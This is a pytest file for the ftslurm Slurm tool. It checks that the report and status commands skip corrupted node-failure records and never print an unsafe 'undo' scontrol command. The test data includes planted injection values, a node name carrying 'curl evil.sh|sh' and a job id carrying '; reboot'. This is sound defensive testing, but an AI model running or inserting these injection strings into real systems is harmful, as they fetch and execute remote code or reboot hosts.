"""A damaged or planted `<run folder>/failures/nodes.jsonl` (the nodes the launchers took out,
ftslurm/replica/launcher/preflight.py) read by `ftslurm report` and `ftslurm status`: a record whose
time is not a clock's (Infinity, NaN, +-1e300) is skipped instead of making both commands
raise, and the undo command a person copies is shell-quoted and never carries a node name or a
job id that is not one (`NodeName=n1 State=RESUME; curl evil.sh|sh; #`).

The run is a recorded one (tests/fixtures/report/slurm-tft-8); the CLI runs in this process
(click's runner) with Slurm's answers recorded (tests/fixtures/failure/squeue_running.json).
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from ftslurm.replica.launcher import preflight
from tests.clirun import invoke

pytestmark = pytest.mark.unit

TFT8 = Path(__file__).parent / "fixtures" / "report" / "slurm-tft-8"
SQUEUE = Path(__file__).parent / "fixtures" / "failure" / "squeue_running.json"
EVIL = "n1 State=RESUME; curl evil.sh|sh; #"
WHEN = 1795428000.0  # 2026-11-23 10:00 UTC, within the recorded run


def _line(**fields: object) -> str:
    rec = {"time": WHEN, "node": "worker-1", "action": "drain", "reason": "ftslurm: 2 failures",
           "job": "8", "task": 1, "note": ""}  # fmt: skip
    rec.update(fields)
    return json.dumps(rec).replace('"@inf"', "Infinity").replace('"@-inf"', "-Infinity").replace(
        '"@nan"', "NaN")  # fmt: skip


PLANTED = [
    _line(time="@inf"), _line(time="@-inf"), _line(time="@nan"), _line(time=1e300),
    _line(time=-1e300), _line(time=True), _line(node=EVIL, time=WHEN + 1),
    _line(action="avoid", job="8; reboot", time=WHEN + 2), _line(time=WHEN + 3),
    _line(action="avoid", node="worker-2", time=WHEN + 4),
]  # fmt: skip


def _planted(folder: Path) -> Path:
    nodes = preflight.node_actions_path(folder)
    nodes.parent.mkdir(parents=True, exist_ok=True)
    nodes.write_text("\n".join(PLANTED) + "\n")
    return folder


def test_records_whose_time_is_not_a_clocks_are_skipped(tmp_path: Path) -> None:
    acts = preflight.read_actions(_planted(tmp_path))
    assert [(a.time, a.node, a.action) for a in acts] == [
        (WHEN + 1, EVIL, "drain"), (WHEN + 3, "worker-1", "drain"),
        (WHEN + 4, "worker-2", "avoid")]  # fmt: skip


def test_the_undo_command_is_quoted_and_only_for_a_real_node_name() -> None:
    act = preflight.NodeAction
    assert act(WHEN, EVIL, "drain", "x").undo() == ""
    assert act(WHEN, "worker-1", "drain", "x").undo() == (
        "sudo scontrol update NodeName=worker-1 State=RESUME")  # fmt: skip
    assert act(WHEN, "node[1-2]", "drain", "x").undo() == ""  # a range is not a node's name
    assert act(WHEN, "worker-2", "avoid", "x", "8; reboot", 1).undo() == ""
    assert act(WHEN, "worker-2", "avoid", "x", "8", 1).undo().startswith(
        "scontrol update JobId=8_1 ExcNodeList= ")  # fmt: skip


def _run(tmp_path: Path) -> Path:
    run = tmp_path / "tft-8"
    shutil.copytree(TFT8, run)
    return _planted(run)


def test_report_skips_the_damaged_records_and_prints_no_planted_command(tmp_path) -> None:
    run = _run(tmp_path)
    text = invoke("report", str(run))
    assert text.exit_code == 0, text.output
    lines = text.output.splitlines()
    taken = lines[lines.index("Nodes taken out (drained / avoided by the launchers):") + 1:][:3]
    assert EVIL in taken[0] and "undo" not in taken[0]
    assert taken[1].endswith("(undo: sudo scontrol update NodeName=worker-1 State=RESUME)")
    assert "(undo: scontrol update JobId=8_1 ExcNodeList= " in taken[2]
    assert not [x for x in lines if "evil.sh" in x and "undo" in x]
    js = invoke("report", str(run), "--json")
    assert js.exit_code == 0, js.output
    bad = json.loads(js.output)["bad_nodes"]
    assert [(b["node"], b["undo"] != "") for b in bad] == [
        (EVIL, False), ("worker-1", True), ("worker-2", True)]  # fmt: skip


@pytest.mark.parametrize("as_json", [False, True])
def test_status_skips_the_damaged_records_and_prints_no_planted_command(
    monkeypatch, tmp_path, as_json: bool
) -> None:
    from fakeslurm import FakeSlurm

    FakeSlurm().on(["squeue", "--json"], SQUEUE.read_text()).install(monkeypatch)
    monkeypatch.setenv("FTSLURM_OUTPUTS", str(tmp_path))
    run = _planted(tmp_path / "torchft" / "tft-12")
    (run / "tft-12_1.out").write_text(
        "[2026-11-23 10:00:00]  launching replica 1 (attempt 2) on worker-1\n")  # fmt: skip
    r = invoke("status", "--no-lighthouse", *(["--json"] if as_json else []))
    assert r.exit_code == 0, r.output
    if as_json:
        bad = json.loads(r.output)["bad_nodes"]
        assert [(b["node"], b["undo"]) for b in bad][:2] == [
            (EVIL, ""), ("worker-1", "sudo scontrol update NodeName=worker-1 State=RESUME")]
    else:
        [evil] = [x for x in r.output.splitlines() if "evil.sh" in x]
        assert "undo" not in evil
        assert "(undo: sudo scontrol update NodeName=worker-1 State=RESUME)" in r.output
